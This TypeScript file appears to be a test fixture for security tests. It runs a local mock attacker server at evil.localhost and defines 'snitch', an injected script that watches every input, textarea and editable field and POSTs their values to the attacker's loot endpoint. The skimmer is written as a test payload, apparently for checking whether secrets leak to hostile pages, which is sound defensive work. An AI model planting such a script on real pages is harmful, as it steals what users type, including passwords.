import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';

/** One request as the attacker's server got it. */
export interface Received {
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** What a page of the attacker's making sends home: what it found in a field, and where. */
export interface Loot {
  readonly at: string;
  readonly value: string;
}

/** The attacker's server: hands out pages, and keeps whatever it is sent, under any name that leads here. */
export interface Attacker {
  readonly port: number;
  readonly received: readonly Received[];
  /** An address at a host of the attacker's, `evil.localhost` unless told. */
  url(path: string, host?: string): string;
  /** Where the pages of one test send what they find. A page that is gone may still be sending: no later test gets it. */
  lootUrl(): string;
  serve(path: string, html: string): void;
  loot(): Loot[];
  forget(): void;
  close(): Promise<void>;
}

export async function startAttacker(): Promise<Attacker> {
  const pages = new Map<string, string>();
  let received: Received[] = [];
  let times = 0;
  const lootPath = () => `${LOOT_PATH}/${times}`;
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request.setEncoding('utf8')) body += chunk;
    const { url = '', headers } = request;
    if (!url.startsWith(LOOT_PATH) || url === lootPath()) received.push({ url, headers, body });
    const page = pages.get(url);
    response.writeHead(page === undefined ? 404 : 200, {
      'Content-Type': 'text/html; charset=utf-8',
      'Access-Control-Allow-Origin': '*',
      'Cache-Control': 'no-store',
    });
    response.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    get received() {
      return received;
    },
    url: (path, host = 'evil.localhost') => `http://${host}:${port}${path}`,
    lootUrl: () => `http://evil.localhost:${port}${lootPath()}`,
    serve: (path, html) => void pages.set(path, html),
    loot: () => received.filter(({ url }) => url === lootPath()).map(({ body }): Loot => JSON.parse(body)),
    forget: () => {
      received = [];
      times += 1;
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const LOOT_PATH = '/loot';

/**
 * A script that sends home whatever comes to stand in a field of its page: at once where an event tells of it, and by
 * looking again and again where none does.
 */
export const snitch = (attacker: Pick<Attacker, 'lootUrl'>) => `<script>
(() => {
  const told = new Set();
  const send = fetch.bind(globalThis);
  const look = () => {
    for (const field of document.querySelectorAll('input, textarea, [contenteditable]')) {
      const value = field.value ?? field.textContent;
      if (value === (field.defaultValue ?? '') || told.has(value)) continue;
      told.add(value);
      send('${attacker.lootUrl()}', { method: 'POST', body: JSON.stringify({ at: location.href, value }), keepalive: true });
    }
  };
  for (const type of ['beforeinput', 'input', 'change', 'submit']) addEventListener(type, look, true);
  setInterval(look, 5);
})();
</script>`;
